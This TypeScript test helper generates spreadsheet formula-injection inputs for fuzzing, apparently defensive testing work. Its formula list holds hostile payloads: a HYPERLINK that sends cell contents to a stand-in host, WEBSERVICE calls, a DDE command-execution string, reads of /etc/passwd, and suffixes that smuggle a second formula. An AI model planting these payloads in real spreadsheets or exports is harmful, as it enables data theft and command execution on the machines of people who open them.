import type { Chance } from '../../../apps/server/src/testing/randomness.ts'

/** What a spreadsheet may take for the beginning of a formula, or leave out before it. */
const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '==',
  '=+',
  '+-',
  '"=',
  "'=",
  '=\t',
  '%=',
  '(=',
]
const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00A0',
  '\uFEFF',
  '\u200B',
  '\u2003',
  '  \t ',
  ';',
  ',',
  '"',
  '";',
]
const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://mau.example/?"&A1,"abra")',
  'WEBSERVICE("http://mau.example/")',
  "cmd|' /C calc'!A0",
  'DDE("soffice";"/etc/passwd";"A1")',
  "'file:///etc/passwd'#$passwd.A1",
  'IMPORTXML("http://mau.example","//a")',
  'INDIRECT("A1")',
  'NOW()',
  'A1',
  '2*3',
  '1e5',
  '{1;2}',
  'IF(TRUE;1;2)',
]
const AFTER = ['', ' ', ';', '"', '\r\n=1+1', '\t=1+1', '";=1+1;"', '\n=1+1\n', ';=1+1', ',=1+1']

/** Names that people could write, each another one. */
export function generateCells(chance: Chance, count: number): string[] {
  const cells = new Set<string>()
  for (const before of BEFORE) for (const beginning of BEGINNINGS) cells.add(`${before}${beginning}1+1`)
  while (cells.size < count)
    cells.add(
      (chance.isLucky(0.5) ? '' : chance.pick(BEFORE)) +
        chance.pick(BEGINNINGS) +
        chance.pick(FORMULAS) +
        chance.pick(AFTER) +
        (chance.isLucky(0.5) ? String(chance.below(1e6)) : ''),
    )
  return [...cells].slice(0, count)
}
